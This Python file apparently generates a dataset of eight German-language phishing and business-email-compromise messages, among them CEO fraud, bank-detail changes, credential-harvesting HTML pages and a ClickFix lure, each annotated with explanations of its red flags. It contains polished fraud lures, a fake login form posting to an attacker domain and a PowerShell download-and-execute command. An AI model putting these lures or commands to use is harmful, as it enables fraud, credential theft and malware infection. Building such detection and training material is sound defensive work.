"""German attack messages (01-08)."""
import checkdigits as cd
from company import S, BANK, COMPANY
from common import pdf_att, html_att, qr_inline
from infra import TLS12, TLS13

LIEF_SIG_FAKE = """Mit freundlichen Grüßen

Petra Lang
Buchhaltung / Kreditorenmanagement

Lieferant GmbH
Industriestraße 17 · 31135 Hildesheim
Tel. +49 5121 28844-0 · Fax +49 5121 28844-99
Mobil (diese Woche): +49 152 53817720
p.lang@lieferant-gmbh.de · www.lieferant-gmbh.de

Geschäftsführer: Dr. Helmut Brandes · Amtsgericht Hildesheim HRB 20417
USt-IdNr. %s""" % cd.de_ustid("19384016")

FAKE_LT = cd.iban_lt("32500", "54817309625")          # Revolut Bank UAB style
PAYROLL_MULE = cd.iban_de("37050198", "193348217")       # Sparkasse KölnBonn
REGISTER_IBAN = cd.iban_from_bban("AT", "1200052918366012")


def messages():
    M = []
    # ----------------------------------------------------------------- 01
    M.append(dict(
        slug="ceo-fraud-projekt-nordlicht",
        date="2026-11-10 08:12:37", zone="DE",
        frm=("Jürgen Hoffmann", "j.hoffmann.vorstand@outlook.de"),
        to=[S("cfo")],
        subject="Vertraulich: Projekt Nordlicht – heute noch",
        via="m365", via_opts=dict(consumer=True, lang="de-DE"),
        charset="iso-8859-1", cte="quoted-printable", html="auto",
        plain_links="outlook",
        text="""Hallo Sabine,

bist Du heute Vormittag erreichbar? Ich sitze bis mittags in Wien in den Gesprächen zu Projekt Nordlicht (Übernahme der Bäckereikette in Oberösterreich – der Aufsichtsrat ist informiert, das Team sonst noch nicht).

Die Verkäuferseite verlangt bis heute 15:00 Uhr eine Exklusivitätsanzahlung auf das Treuhandkonto der Kanzlei, sonst verhandeln sie mit dem zweiten Bieter weiter. Es geht um 248.500,00 EUR. Dr. Markus Lehner von Lehner & Partner Rechtsanwälte meldet sich gleich direkt bei Dir mit den Kontodaten und dem unterschriebenen Term Sheet.

Bitte behandle das absolut vertraulich, auch gegenüber Monika und Laura – bis zur Ad-hoc-Mitteilung darf nichts nach außen dringen. Ich schreibe Dir von meinem privaten Account, weil die IT gerade mein Postfach migriert und ich unterwegs nur eingeschränkt Zugriff habe. Anrufen geht leider nicht, ich bin durchgehend in der Verhandlung. Schreib mir bitte einfach hier zurück, sobald Du die Zahlung anstoßen kannst.

Danke Dir!
Jürgen

Von [[Outlook für iOS|https://aka.ms/o0ukef]] gesendet""",
        what="CEO fraud: 'Jürgen Hoffmann' from an outlook.de freemail account asks the CFO to prepare a confidential 248,500 EUR 'exclusivity deposit' for an acquisition; a 'lawyer' will send the account.",
        why="CEO display name on a consumer Outlook.com account (Microsoft consumer outbound, olkn), secrecy towards the usual approvers, deadline today, 'cannot call, answer here only', hand-off to an external 'lawyer' for bank data, migration excuse. The real CEO writes through mail-int01/Exchange and uses the four-eyes process (see business 01).",
    ))
    # ----------------------------------------------------------------- 02
    M.append(dict(
        slug="lieferant-lookalike-bankverbindung",
        date="2026-11-12 10:41:06", zone="DE",
        frm=("Petra Lang", "p.lang@lieferant-gmbh.com"),
        to=[S("ap")],
        subject="Änderung unserer Bankverbindung – bitte ab sofort verwenden",
        via="smtp_client",
        via_opts=dict(client="outlook", out=("mail.lieferant-gmbh.com", "vmi2281734.contaboserver.net", "161.97.142.88"),
                      sub_host="mail.lieferant-gmbh.com", public_ip="197.211.58.14", tls=TLS13),
        charset="windows-1252", cte="quoted-printable", html="auto", plain_links="outlook",
        text="""Sehr geehrte Frau Weiß,

aufgrund einer laufenden Betriebsprüfung ist unser Geschäftskonto bei der Hannoverschen Volksbank derzeit für Zahlungseingänge gesperrt. Bitte nehmen Sie ab sofort alle Zahlungen ausschließlich auf unsere Ausweichverbindung vor:

Kontoinhaber: Lieferant GmbH
Bank: Revolut Bank UAB (Zweigniederlassung Deutschland)
IBAN: %s
BIC: REVOLT21

Betroffen sind insbesondere die bereits fälligen Rechnungen RE-2026-10418 (18.742,30 €) und RE-2026-10533 (9.116,85 €). Wir wären Ihnen dankbar, wenn Sie diese noch diese Woche auf das neue Konto überweisen und mir kurz den Zahlungsavis schicken, damit wir die Liefersperre in unserem System aufheben können.

Das Bestätigungsschreiben unserer Bank finden Sie im Anhang. Telefonisch bin ich wegen der Prüfung diese Woche nur mobil erreichbar, am schnellsten geht es per E-Mail.

%s""" % (cd.iban_fmt(FAKE_LT), LIEF_SIG_FAKE),
        attach=[pdf_att("Bankbestaetigung_Lieferant_GmbH.pdf", [
            "# Bestätigung der Kontoverbindung", "",
            "Revolut Bank UAB", "Konstitucijos ave. 21B, 08130 Vilnius, Litauen", "",
            "Hiermit bestätigen wir, dass das nachfolgende Konto auf den Namen",
            "## Lieferant GmbH, Industriestraße 17, 31135 Hildesheim",
            "bei uns geführt wird.", "",
            "IBAN: " + cd.iban_fmt(FAKE_LT), "BIC: REVOLT21", "",
            "Datum: 09.11.2026", "", "Revolut Bank UAB – Business Support"],
            title="Bankbestätigung", producer="Microsoft: Print To PDF")],
        what="Supplier bank-detail change from the look-alike domain lieferant-gmbh.com (genuine: lieferant-gmbh.de) asking AP to pay two due invoices to a Lithuanian fintech account.",
        why="Look-alike .com domain on a Contabo VPS (HELO mail.lieferant-gmbh.com, rDNS vmi…contaboserver.net, submission from a Nigerian IP); 'account blocked by tax audit' pretext; immediate switch instead of a future date; foreign fintech IBAN; mobile-only callback number in a copied signature; self-made 'bank confirmation' PDF. Compare the proper announcement in business 02.",
    ))
    # ----------------------------------------------------------------- 03
    M.append(dict(
        slug="erechnung-pflichtregistrierung",
        date="2026-10-20 07:03:55", zone="DE",
        frm=("E-Rechnung Service Deutschland", "noreply@erechnung-registrierung.de"),
        to=[S("ap")],
        subject="Pflichtregistrierung E-Rechnung (XRechnung/ZUGFeRD): Frist 30.11.2026 für Example Group SE",
        via="sendgrid", via_opts=dict(bounce_domain="em4471.erechnung-registrierung.de"),
        charset="utf-8", cte="quoted-printable", html="brand", plain_links="angle",
        brand=dict(name="E-Rechnung Service Deutschland", color="#004b87",
                   button=("Jetzt Unternehmen verifizieren",
                           "https://portal.erechnung-registrierung.de/verifizierung?uid=%s&ref=EG-30163" % COMPANY["vat"]),
                   footer="E-Rechnung Service Deutschland · Registrierungsstelle für elektronische Rechnungsempfänger\nDiese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail."),
        text="""Sehr geehrte Damen und Herren,

mit dem Wachstumschancengesetz ist die elektronische Rechnung im inländischen B2B-Verkehr verpflichtend. Ab dem 1. Januar 2027 müssen Unternehmen mit einem Vorjahresumsatz von mehr als 800.000 EUR ihre Rechnungen ausschließlich in einem strukturierten Format (XRechnung oder ZUGFeRD) ausstellen und empfangen.

Für Ihr Unternehmen **Example Group SE** (USt-IdNr. %s) liegt bislang keine verifizierte Empfangsadresse im Verzeichnis der E-Rechnungsempfänger vor. Ohne Verifizierung können Ihre Lieferanten Ihnen ab dem 01.01.2027 keine Rechnungen mehr zustellen, die zum Vorsteuerabzug berechtigen.

Die Verifizierung dauert etwa zwei Minuten. Bitte melden Sie sich dazu mit Ihrem geschäftlichen Microsoft-365- oder ELSTER-Organisationskonto an:

[[Jetzt Unternehmen verifizieren|https://portal.erechnung-registrierung.de/verifizierung?uid=%s&ref=EG-30163]]

Frist: 30.11.2026. Nach Ablauf der Frist wird der Eintrag für Ihre USt-IdNr. als „nicht empfangsbereit“ gekennzeichnet.

Mit freundlichen Grüßen
Ihr Team E-Rechnung Service Deutschland""" % (COMPANY["vat"], COMPANY["vat"]),
        what="Credential phishing exploiting the German e-invoicing mandate: an invented 'mandatory registration' of the company's USt-IdNr. with a login via Microsoft 365 or ELSTER.",
        why="There is no registration obligation or central recipient directory for B2B e-invoices in Germany; sender domain unrelated to any authority, sent via SendGrid; deadline and loss-of-input-tax threat; button leads to a non-government login page harvesting M365/ELSTER credentials.",
    ))
    # ----------------------------------------------------------------- 04
    datev_html = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8">
<title>DATEV Unternehmen online – Belege 48211</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2;margin:0}
.box{width:380px;margin:60px auto;background:#fff;padding:36px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:20px;font-weight:600;margin:16px 0}.lbl{font-size:13px;color:#555}
input{width:100%;padding:8px 4px;border:0;border-bottom:1px solid #666;margin:8px 0 18px;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;font-size:15px;float:right}
.doc{background:#eef5e8;border-left:4px solid #2e7d32;padding:10px 12px;font-size:13px;margin-bottom:18px}</style>
</head><body><div class="box">
<div style="font-size:18px;color:#737373">&#9632;&#9632; Microsoft</div>
<h1>Anmelden, um die Belege anzuzeigen</h1>
<div class="doc">DATEV Unternehmen online &middot; Mandant 48211<br>3 Belege zur Freigabe (Rechnungseingang 11/2026)</div>
<form method="post" action="https://datev-belege-freigabe.com/duo/auth.php">
<input type="hidden" name="m" value="48211">
<div class="lbl">E-Mail-Adresse</div><input type="email" name="login" value="monika.weiss@example.com">
<div class="lbl">Kennwort</div><input type="password" name="passwd" placeholder="Kennwort">
<button type="submit">Anmelden</button></form>
<p style="clear:both;font-size:12px;color:#666;padding-top:20px">Aus Sicherheitsgründen wird die Belegvorschau erst nach erneuter Anmeldung angezeigt.</p>
</div></body></html>
"""
    M.append(dict(
        slug="datev-belege-html-anhang",
        date="2026-11-18 13:27:40", zone="DE",
        frm=("DATEV Unternehmen online", "info@malerbetrieb-krause-goslar.de"),
        to=[S("ap")],
        subject="Belegbereitstellung: 3 neue Belege zur Freigabe (Mandant 48211)",
        via="smtp_client",
        via_opts=dict(client="outlook", out=("mo4-p00-ob.smtp.rzone.de", "mo4-p00-ob.smtp.rzone.de", "81.169.146.163"),
                      sub_style="strato", tls=TLS13),
        charset="iso-8859-15", cte="quoted-printable", html="auto",
        text="""Sehr geehrte Damen und Herren,

Ihre Steuerberatungskanzlei hat Ihnen in DATEV Unternehmen online neue Belege zur Prüfung und Freigabe bereitgestellt:

Mandant: 48211
Belegart: Rechnungseingang 11/2026
Anzahl: 3 Belege (Summe 27.904,18 €)

Die Belegvorschau ist aus Datenschutzgründen als geschützte Datei angehängt. Öffnen Sie die Datei im Browser und bestätigen Sie den Zugriff mit Ihrer geschäftlichen E-Mail-Adresse. Nicht freigegebene Belege können in der Umsatzsteuer-Voranmeldung für November nicht berücksichtigt werden.

Mit freundlichen Grüßen
DATEV eG – Unternehmen online Service

Diese E-Mail wurde automatisch erzeugt.""",
        attach=[html_att("DATEV_Belege_48211_Freigabe.html", datev_html)],
        what="Credential phishing with an HTML attachment: fake 'DATEV Unternehmen online' document notice; the attached page imitates a Microsoft sign-in with the victim's address pre-filled.",
        why="Sent from a painter's mailbox at Strato (malerbetrieb-krause-goslar.de, compromised account) under the DATEV display name; DATEV never sends HTML login files; attachment posts credentials to datev-belege-freigabe.com; VAT-deadline pressure.",
    ))
    # ----------------------------------------------------------------- 05
    M.append(dict(
        slug="gehaltskonto-umleitung",
        date="2026-11-19 21:48:12", zone="DE",
        frm=("Nadine Zimmermann", "nadine.zimmermann84@gmx.de"),
        to=[S("hr")],
        subject="Neue Bankverbindung für mein Gehalt",
        via="gmx", via_opts=dict(brand="gmx", client_ip="95.90.211.47"),
        charset="utf-8", cte="quoted-printable",
        text="""Hallo Frau Schäfer,

ich habe meine Bank gewechselt und möchte, dass mein Gehalt ab der Novemberabrechnung auf mein neues Konto überwiesen wird. Könnten Sie die Änderung bitte noch vor dem Abrechnungslauf eintragen? Ich bin diese und nächste Woche auf Lieferantenaudits unterwegs und komme vom Hotel aus nicht ins Personalportal.

Kontoinhaberin: Nadine Zimmermann
IBAN: %s
Bank: Sparkasse KölnBonn

Eine kurze Bestätigung per Mail, dass alles geklappt hat, wäre super.

Vielen Dank und viele Grüße
Nadine Zimmermann""" % cd.iban_fmt(PAYROLL_MULE),
        what="Payroll diversion: a freemail account using an employee's name asks HR to change her salary account before the November payroll run.",
        why="Unknown gmx.de address (the employee's real private address is n.zimmermann@web.de, see business 05), bypasses the HR portal/form 'because travelling', time pressure before the payroll run, new account in another city (Cologne), asks only for an e-mail confirmation.",
    ))
    # ----------------------------------------------------------------- 06
    qr_url = "https://login.m365-authentifizierung.de/mfa/setup?ref=amFuYS5wb2hsQGV4YW1wbGUuY29t&t=2611"
    M.append(dict(
        slug="quishing-mfa-neuregistrierung",
        date="2026-11-20 06:55:18", zone="DE",
        frm=("Microsoft 365 Admin Center", "it-sicherheit@physio-am-markt-celle.de"),
        to=[S("cafe")],
        subject="Aktion erforderlich: Ihre Mehrstufige Authentifizierung läuft am 23.11.2026 ab",
        via="smtp_client",
        via_opts=dict(client="phpmailer", out=("wp1187443.server-he.de", "wp1187443.server-he.de", "80.237.133.71"),
                      sub_style="local", sub_host="wp1187443.server-he.de", tls=TLS12),
        charset="utf-8", cte="base64", html="brand", html_cte="base64",
        brand=dict(name="Microsoft 365", color="#0078d4",
                   footer="Microsoft Corporation · One Microsoft Way · Redmond, WA 98052\nDiese Benachrichtigung wurde an jana.pohl@example.com gesendet."),
        html_text="""Hallo Jana Pohl,

für Ihr Konto **jana.pohl@example.com** ist eine Neuregistrierung der mehrstufigen Authentifizierung (MFA) erforderlich. Ihr Administrator hat die Sicherheitsrichtlinie für Ihre Organisation aktualisiert; die bisherige Registrierung läuft am **23.11.2026** ab.

Scannen Sie den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen, um den Microsoft Authenticator erneut zu verknüpfen:

[QR]

Wenn Sie die Registrierung nicht rechtzeitig abschließen, wird der Zugriff auf Outlook, Teams und OneDrive bis zur Prüfung durch den Administrator gesperrt.

Vielen Dank
Ihr Microsoft 365-Team""",
        text="""Hallo Jana Pohl,

für Ihr Konto jana.pohl@example.com ist eine Neuregistrierung der mehrstufigen Authentifizierung (MFA) erforderlich. Ihr Administrator hat die Sicherheitsrichtlinie für Ihre Organisation aktualisiert; die bisherige Registrierung läuft am 23.11.2026 ab.

Bitte scannen Sie den QR-Code in der HTML-Ansicht dieser Nachricht mit Ihrem Smartphone.

Wenn Sie die Registrierung nicht rechtzeitig abschließen, wird der Zugriff auf Outlook, Teams und OneDrive gesperrt.

Ihr Microsoft 365-Team""",
        inline=[qr_inline(qr_url, "mfa-qr-2611@physio-am-markt-celle.de", "mfa_code.png")],
        what="Quishing: fake Microsoft 365 'MFA re-registration' notice whose only call to action is an inline QR code leading to an adversary-in-the-middle login page.",
        why="Sent by PHPMailer from a compromised physiotherapy website on shared hosting under the 'Microsoft 365 Admin Center' display name; the QR code (decodes to login.m365-authentifizierung.de, not Microsoft) evades URL scanning and moves the victim to an unmanaged phone; expiry/lock-out threat. Compare the genuine IT notice in business 06.",
    ))
    # fix the QR placeholder in the html text
    M[-1]["html_text"] = M[-1]["html_text"].replace("\n\n[QR]", "")
    M[-1]["html"] = _qr_html(M[-1])
    # ----------------------------------------------------------------- 07
    M.append(dict(
        slug="zentralregister-scheinrechnung",
        date="2026-11-24 09:15:02", zone="DE",
        frm=("Zentralregister Lebensmittelbetriebe", "rechnung@zentralregister-lebensmittel.de"),
        to=[S("ap")],
        subject="Rechnung Nr. ZRL-2026-118734 – Eintragung 2027 (Lebensmittelbetriebe-Verzeichnis)",
        via="mailgun", via_opts=dict(mg_domain="mg.zentralregister-lebensmittel.de"),
        charset="utf-8", cte="quoted-printable", html="brand",
        brand=dict(name="Zentralregister Lebensmittelbetriebe", color="#6d7b2f",
                   footer="ZRL Zentralregister Lebensmittelbetriebe · Verwaltung: DataCom Registry s.r.o., Bratislava\nAbmelden: Antworten Sie mit 'Abmelden' im Betreff."),
        text="""Sehr geehrte Damen und Herren,

anbei erhalten Sie die Rechnung für die Eintragung Ihres Betriebes im Zentralregister Lebensmittelbetriebe für den Zeitraum 01.01.2027 bis 31.12.2027:

Betrieb: Example Group SE, Lister Damm 42, 30163 Hannover
Registernummer: ZRL-DE-NI-0418831
Rechnungsnummer: ZRL-2026-118734
Betrag: 999,16 € zzgl. 19 %% USt. 189,84 € = 1.189,00 €

Bitte überweisen Sie den Betrag innerhalb von 10 Tagen unter Angabe der Rechnungsnummer:
IBAN %s · BIC BKAUATWW

Mit freundlichen Grüßen
Ihr ZRL-Team""" % cd.iban_fmt(REGISTER_IBAN),
        attach=[pdf_att("ZRL-2026-118734.pdf", [
            "# Zentralregister Lebensmittelbetriebe", "Rechnung / Eintragungsofferte", "",
            "Example Group SE", "Lister Damm 42", "30163 Hannover", "",
            "## Rechnungsnummer ZRL-2026-118734      Datum 24.11.2026",
            "---",
            "Pos. 1  Eintragung Basisprofil im Zentralregister, Laufzeit 01.01.2027-31.12.2027    999,16 EUR",
            "        zzgl. 19 % USt.                                                             189,84 EUR",
            "## Gesamtbetrag                                                                    1.189,00 EUR",
            "---",
            "Zahlbar innerhalb von 10 Tagen auf IBAN " + cd.iban_fmt(REGISTER_IBAN) + ", BIC BKAUATWW.",
            "",
            "Hinweis: Das ZRL ist ein privates Verzeichnis und steht in keiner Verbindung zu Behörden oder",
            "Registergerichten. Die Eintragung ist freiwillig. Mit Zahlung dieses Betrages nehmen Sie unser",
            "Angebot an; der Vertrag hat eine Laufzeit von drei Jahren und verlängert sich um jeweils ein",
            "weiteres Jahr, wenn er nicht drei Monate vor Ablauf schriftlich gekündigt wird. Gerichtsstand Bratislava."],
            title="Rechnung ZRL-2026-118734", producer="TCPDF 6.6.5")],
        what="Fake register 'invoice': an offer for an entry in a private 'food businesses register' formatted as an invoice with a register number and an Austrian IBAN.",
        why="No order exists; the small print makes payment the acceptance of a 3-year contract with a private directory unrelated to the authorities (food business registration with the Lebensmittelüberwachung is free); official-sounding name, bulk mail via Mailgun, foreign account and jurisdiction.",
    ))
    # ----------------------------------------------------------------- 08
    clickfix = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Befund_Labor_MHH_Kassenbon.pdf – Google Drive</title>
<style>body{font-family:Roboto,Arial,sans-serif;background:#f1f3f4;margin:0}
.bar{background:#fff;border-bottom:1px solid #dadce0;padding:14px 24px;font-size:18px;color:#3c4043}
.card{width:560px;margin:50px auto;background:#fff;border:1px solid #dadce0;border-radius:8px;padding:28px 32px}
.cb{border:1px solid #d3d3d3;border-radius:3px;padding:14px;background:#f9f9f9;font-size:14px}
ol{font-size:15px;line-height:28px}kbd{border:1px solid #aaa;border-radius:3px;padding:1px 6px;background:#eee}
code{display:block;font-size:11px;color:#5f6368;background:#f8f9fa;border:1px dashed #ccc;padding:8px;margin-top:10px;word-break:break-all}</style>
</head><body><div class="bar">&#128196; Befund_Labor_MHH_Kassenbon.pdf</div>
<div class="card"><div class="cb">&#9744; Ich bin kein Roboter &nbsp;&nbsp;<span style="color:#888;font-size:11px">reCAPTCHA &middot; Datenschutz &middot; Nutzungsbedingungen</span></div>
<p>Das Dokument ist durch den Absender geschützt. Bestätigen Sie einmalig, dass Sie ein Mensch sind:</p>
<ol><li>Markieren Sie den Bestätigungscode unten und kopieren Sie ihn (<kbd>Strg</kbd> + <kbd>C</kbd>)</li>
<li>Drücken Sie <kbd>&#8862; Windows</kbd> + <kbd>R</kbd></li>
<li>Fügen Sie den Code mit <kbd>Strg</kbd> + <kbd>V</kbd> ein und drücken Sie <kbd>Enter</kbd></li></ol>
<code>powershell -w h -nop -c "iex(irm 'https://docs-befund-cdn.com/v/7f3a91')" # &#10004; Ich bin kein Roboter - reCAPTCHA Verifizierungs-ID: 4471-0938</code>
<p style="font-size:12px;color:#5f6368">Nach der Bestätigung wird das Dokument automatisch geöffnet.</p></div>
</body></html>
"""
    M.append(dict(
        slug="clickfix-beschwerde-lebensmittelvergiftung",
        date="2026-11-16 19:32:44", zone="DE",
        frm=("Melanie Krafczyk", "melanie.krafczyk1987@gmail.com"),
        to=[S("cafe")],
        subject="Beschwerde: Lebensmittelvergiftung nach Einkauf in Ihrer Filiale Podbielskistraße (Befund anbei)",
        via="gmail",
        charset="utf-8", cte="quoted-printable", html="auto",
        text="""Sehr geehrte Damen und Herren,

am Samstag, 14.11., habe ich in Ihrer Filiale in der Podbielskistraße eine Schwarzwälder Kirschtorte und drei belegte Brötchen gekauft. Noch am selben Abend bekamen mein Mann und unsere beiden Kinder starken Brechdurchfall, unser Sohn (7) musste über Nacht in der MHH bleiben.

Heute kam der Laborbefund – Salmonellen. Ich habe Ihnen den Befund, den Kassenbon und Fotos der Torte zusammen als Dokument angehängt.

Ich erwarte bis Freitag eine schriftliche Stellungnahme und die Übernahme der Kosten. Andernfalls werde ich mich an das Gesundheitsamt und an die HAZ wenden.

Melanie Krafczyk""",
        attach=[html_att("Befund_Labor_MHH_Kassenbon.html", clickfix)],
        what="ClickFix lure: an emotional food-poisoning complaint whose 'lab report' attachment is an HTML page with a fake reCAPTCHA telling the reader to paste a PowerShell command into Win+R.",
        why="The attachment is not a document but an HTML page instructing the user to run 'powershell -w h … iex(irm https://docs-befund-cdn.com/…)' (download-and-execute, fake 'I am not a robot' comment); freemail sender, pressure via press/health-authority threat. Compare the genuine complaint with a photo in business 08.",
    ))
    return M


def _qr_html(spec):
    from mime import html_brand
    cid = spec["inline"][0].cid
    h = html_brand(spec["html_text"], spec["charset"], "Microsoft 365", "#0078d4", None,
                   spec["brand"]["footer"], None, "de")
    img = ('<p style="text-align:center;margin:18px 0"><img src="cid:%s" width="215" '
           'height="215" alt="QR-Code"></p>' % cid)
    marker = "Anweisungen, um den Microsoft Authenticator erneut zu verknüpfen:</p>"
    assert marker in h
    return h.replace(marker, marker + "\n" + img, 1)
